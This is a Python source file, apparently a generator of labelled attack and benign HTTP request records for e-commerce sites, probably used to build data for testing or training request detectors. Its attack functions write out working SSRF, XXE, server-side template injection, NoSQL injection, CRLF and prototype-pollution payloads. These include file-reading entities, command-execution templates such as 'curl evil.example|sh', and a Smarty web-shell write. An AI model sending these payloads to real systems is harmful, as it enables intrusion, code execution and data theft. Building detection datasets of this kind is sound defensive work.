            attack("ssrf", "webhook-url", "POST", "/wp-json/wc/v3/webhooks", headers(ctype=JSON_CT, extra=[("Authorization", "Basic Y2tfeDpjc195")]),
                   jdump({"name": "Order created", "topic": "order.created", "delivery_url": u}))
        elif k == 1:
            attack("ssrf", "image-import", "POST", "/wp-admin/admin-ajax.php", headers(ctype=FORM),
                   form([("action", "woocommerce_import_image"), ("image_url", u), ("product_id", "77")]))
        elif k == 2:
            attack("ssrf", "feed-url", "GET", "/index.php?" + qs([("route", "extension/feed/import"), ("feed", u)]), headers())
        else:
            attack("ssrf", "image-proxy", "GET", "/cdn/image?" + qs([("url", u), ("w", "400")]), headers())
    # xmlrpc pingback
    for target in ["http://169.254.169.254/latest/user-data", "http://127.0.0.1:22/", "http://10.0.0.5:8080/admin", "http://internal-payments.svc.cluster.local/"]:
        body = ('<?xml version="1.0"?><methodCall><methodName>pingback.ping</methodName><params>'
                '<param><value><string>%s</string></value></param>'
                '<param><value><string>https://blog.example.org/2024/03/spring-drop/</string></value></param></params></methodCall>') % target
        attack("ssrf", "xmlrpc-pingback", "POST", "/xmlrpc.php", headers(ctype="text/xml", with_cookie=False), body)
    attack("ssrf", "xmlrpc-pingback", "POST", "/xmlrpc.php", headers(ctype="application/xml", with_cookie=False),
           '<methodCall><methodName>system.multicall</methodName><params><param><value><array><data><value><struct><member><name>methodName</name><value>pingback.ping</value></member>'
           '<member><name>params</name><value><array><data><value>http://0x7f.0.0.1:3306/</value><value>https://blog.example.org/?p=1</value></data></array></value></member></struct></value></data></array></value></param></params></methodCall>')
    attack("ssrf", "graphql", "POST", "/graphql", headers(ctype=JSON_CT),
           jdump({"query": "mutation { importProductImage(sku: \"A1\", url: \"http://169.254.169.254/latest/meta-data/\") { ok } }"}))
    attack("ssrf", "oembed", "GET", "/wp-json/oembed/1.0/proxy?" + qs([("url", "http://127.0.0.1:8080/actuator/env")]), headers())


def gen_attack_xxe():
    docs = [
        '<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><item><title>&xxe;</title></item></channel></rss>',
        '<?xml version="1.0"?><!DOCTYPE products [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]><products><product><sku>A1</sku></product></products>',
        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE feed [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/app/etc/env.php">]><feed><entry><title>&x;</title></entry></feed>',
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "dos"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',
        '<?xml version="1.0"?><!DOCTYPE catalog SYSTEM "http://169.254.169.254/latest/meta-data/"><catalog/>',
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p1 SYSTEM "file:///etc/hostname"><!ENTITY % p2 "<!ENTITY e SYSTEM \'http://evil.example/?%p1;\'>"> %p2;]><x>&e;</x>',
        '<!DOCTYPE methodCall [<!ENTITY xxe SYSTEM "file:///var/www/wp-config.php">]><methodCall><methodName>&xxe;</methodName></methodCall>',
    ]
    targets = [("POST", "/index.php?route=extension/feed/import", "application/xml"), ("POST", "/wp-admin/admin.php?import=rss&step=1", "text/xml"),
               ("POST", "/admin/import/product/xml", "application/xml"), ("POST", "/api/feeds/google-shopping", "application/rss+xml")]
    for i, d in enumerate(docs):
        m, uri, ct = targets[i % len(targets)]
        if "methodCall" in d:
            uri = "/xmlrpc.php"
        attack("xxe", "feed-import", m, uri, headers(ctype=ct), d)
    mct, body = multipart([("action", "import")], [("feed", "products.xml", "text/xml", docs[0])])
    attack("xxe", "feed-upload", "POST", "/wp-admin/admin.php?page=wpai-import", headers(ctype=mct), body)
    mct, body = multipart([("action", "upload-attachment")], [("async-upload", "logo.svg", "image/svg+xml",
                          '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>')])
    attack("xxe", "svg-upload", "POST", "/wp-admin/async-upload.php", headers(ctype=mct), body)
    attack("xxe", "soap", "POST", "/api/v2_soap/", headers(ctype="text/xml; charset=utf-8", extra=[("SOAPAction", "urn:Magento#catalogProductList")]),
           '<?xml version="1.0"?><!DOCTYPE e [<!ENTITY x SYSTEM "expect://id">]><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body><login><username>&x;</username></login></soapenv:Body></soapenv:Envelope>')


def gen_attack_ssti():
    cases = [
        ("twig", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        ("twig", "{{['id']|filter('system')}}"),
        ("twig", "{{['cat /etc/passwd']|map('passthru')|join}}"),
        ("twig", "{% set x = 'system' %}{{ ['uname -a']|map(x)|join }}"),
        ("smarty", "{php}echo `id`;{/php}"),
        ("smarty", "{system('cat /etc/passwd')}"),
        ("smarty", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())}"),
        ("magento", "{{var this.getTemplateFilter().filter(dummy)}}{{var this.getTemplateFilter().addAfterFilterCallback(system).Filter(id)}}"),
        ("magento", "{{block class='Magento\\Framework\\View\\Element\\Template' template='../../../../etc/passwd'}}"),
        ("magento", "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter('id')}}"),
        ("liquid", "{{ 'id' | system }}{% include '../../../../etc/passwd' %}"),
        ("jinja", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        ("jinja", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        ("freemarker", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ ex(\"id\") }"),
        ("velocity", "#set($e=\"\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"),
        ("erb", "<%= `cat /etc/passwd` %>"),
    ]
    for i, (eng, p) in enumerate(cases):
        sub = "ssti-" + eng
        k = i % 4
        if k == 0:
            attack("ssti", sub, "POST", "/wp-comments-post.php", headers(ctype=FORM), form([("comment", p), ("author", "A"), ("email", "a@b.example"), ("comment_post_ID", "5")]))
        elif k == 1:
            attack("ssti", sub, "GET", "/search?" + qs([("q", p)]), headers())
        elif k == 2:
            attack("ssti", sub, "POST", "/checkout/cart/add/", headers(ctype=FORM), form([("product", "12"), ("options[3]", p), ("form_key", "x")]))
        else:
            attack("ssti", sub, "POST", "/api/customer/profile", headers(ctype=JSON_CT), jdump({"firstname": p, "lastname": "X"}))
    attack("ssti", "email-template", "POST", "/admin/admin/email_template/save/", headers(ctype=FORM),
           form([("template_code", "x"), ("template_text", "{{var this.getTemplateFilter().addAfterFilterCallback(system).filter('curl evil.example|sh')}}")]))
    attack("ssti", "newsletter", "POST", "/newsletter/subscriber/new/", headers(ctype=FORM), form([("email", "{{7*7}}@x.example{{['id']|filter('exec')}}")]))


def gen_attack_nosqli():
    bodies = [
        {"email": {"$ne": None}, "password": {"$ne": None}},
        {"email": "admin@example.com", "password": {"$gt": ""}},
        {"email": {"$regex": "^adm"}, "password": {"$exists": True}},
        {"email": {"$in": ["admin@example.com", "root@example.com"]}, "password": {"$nin": [""]}},
        {"username": "admin", "password": {"$where": "sleep(5000) || true"}},
        {"email": {"$gt": ""}, "password": {"$gt": ""}, "remember": True},
        {"$where": "this.password.match(/^a/)", "email": "x@example.com"},
        {"filter": {"price": {"$lt": 1}, "$or": [{"status": "hidden"}, {"status": {"$ne": "x"}}]}},
    ]
    for i, b in enumerate(bodies):
        uri = ["/api/customer/login", "/api/auth/login", "/account/login.json", "/api/products/search"][i % 4]
        if "filter" in b:
            uri = "/api/products/search"
        attack("nosqli", "login-json", "POST", uri, headers(ctype=JSON_CT), jdump(b))
    attack("nosqli", "form", "POST", "/account/login", headers(ctype=FORM), "email%5B%24ne%5D=x&password%5B%24ne%5D=x")
    attack("nosqli", "query", "GET", "/api/orders?" + "customer%5B%24gt%5D=&status%5B%24regex%5D=.%2A", headers(accept=ACCEPT_JSON))
    attack("nosqli", "query", "GET", "/api/coupons/validate?code[$ne]=INVALID", headers(accept=ACCEPT_JSON))
    attack("nosqli", "graphql", "POST", "/graphql", headers(ctype=JSON_CT),
           jdump({"query": "query($f: JSON){ orders(filter: $f){ id total } }", "variables": {"f": {"customerId": {"$ne": 0}}}}))


def gen_attack_crlf():
    cases = [
        ("/account/login?return_url=", "%0d%0aSet-Cookie:%20session=attacker"),
        ("/checkout/cart/?redirect=", "/%0D%0ALocation:%20https://evil.example/"),
        ("/wp-login.php?redirect_to=", "https://shop.example.com/%0d%0aX-Injected:%201"),
        ("/customer/account/login/referer/", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        ("/discount/SPRING?redirect=", "/collections%0aSet-Cookie:%20cart=x;%20Domain=.example.com"),
        ("/index.php?option=com_users&return=", "%E5%98%8A%E5%98%8DSet-Cookie:%20x=y"),
        ("/cart/change?line=1&return_to=", "%0D%0A%0D%0A%3Chtml%3Epwned"),
        ("/locale/switch?lang=", "en%0d%0aRefresh:%200;url=https://evil.example/"),
        ("/?wc-ajax=get_refreshed_fragments&_wp_http_referer=", "%250d%250aSet-Cookie:%2520a=b"),
    ]
    for path, p in cases:
        attack("crlf", "redirect", "GET", path + p, headers())
    attack("crlf", "form", "POST", "/contact", headers(ctype=FORM),
           "name=Eve&email=eve%40example.com%0d%0aBcc:%20victim%40example.net&message=hi")


def gen_attack_generic():
    attack("generic", "proto-pollution", "POST", "/cart/update.js", headers(ctype=JSON_CT),
           '{"attributes":{"__proto__":{"isAdmin":true}},"note":"x"}')
    attack("generic", "proto-pollution", "POST", "/api/checkout/session", headers(ctype=JSON_CT),
           jdump({"constructor": {"prototype": {"shell": "/proc/self/exe", "NODE_OPTIONS": "--require /proc/self/environ"}}}))
    attack("generic", "proto-pollution", "GET", "/collections/all?__proto__[polluted]=1&constructor[prototype][admin]=1", headers())
    attack("generic", "scanner", "GET", "/wp-content/debug.log", headers(ua="WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"))
    attack("generic", "scanner", "GET", "/?author=1", headers(ua="sqlmap/1.8#stable (https://sqlmap.org)"))
    attack("generic", "scanner", "GET", "/.env", headers(ua="Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"))
    attack("generic", "config-probe", "GET", "/app/etc/env.php.bak", headers())
    attack("generic", "config-probe", "GET", "/wp-config.php~", headers())
    attack("generic", "config-probe", "GET", "/.git/config", headers())
    attack("generic", "null-byte", "GET", "/?download_file=12&file=invoice.pdf%00.php", headers())


def gen_devcontent_extra():
    devc("misc-scripts", "POST", "/admin/admin/system_config/save/section/design/", headers(ctype=FORM),
         form([("groups[head][fields][includes][value]", '<link rel="stylesheet" href="{{MEDIA_URL}}styles.css" />\n<script type="text/javascript" src="https://cdn.example-cdn.net/reviews-widget.js" async></script>'),
               ("form_key", "%016x" % rng.getrandbits(64))]))
    devc("json-ld", "POST", "/wp-admin/post.php", headers(ctype=FORM),
         form([("post_ID", "88"), ("action", "editpost"), ("_wpnonce", "%010x" % rng.getrandbits(40)),
               ("content", '<!-- wp:html -->\n<script type="application/ld+json">{"@context":"https://schema.org","@type":"Product","name":"Union Tote","offers":{"@type":"Offer","price":"29.00","priceCurrency":"EUR"}}</script>\n<!-- /wp:html -->')]))
    devc("embed", "POST", "/node/12/edit", headers(ctype=FORM),
         form([("body[0][value]", '<p>Watch the unboxing:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/abc123" title="YouTube video player" allowfullscreen></iframe>'),
               ("body[0][format]", "full_html"), ("form_id", "node_article_edit_form"), ("op", "Save")]))
    devc("report", "POST", "/admin/reports/saved-queries", headers(ctype=JSON_CT),
         jdump({"name": "Stale carts", "query": "SELECT id, email, updated_at FROM quote WHERE is_active = 1 AND updated_at < NOW() - INTERVAL 7 DAY ORDER BY updated_at", "notes": "Used by the 'drop-off' e-mail flow"}))


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.stderr.write("usage: corpus-commerce.py attacks|benign\n")
        sys.exit(2)
    for name, fn in sorted(globals().items()):
        if name.startswith("gen_") and callable(fn):
            fn()
    out = sys.stdout
    for rec in RECORDS[sys.argv[1]]:
        out.write(json.dumps(rec, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
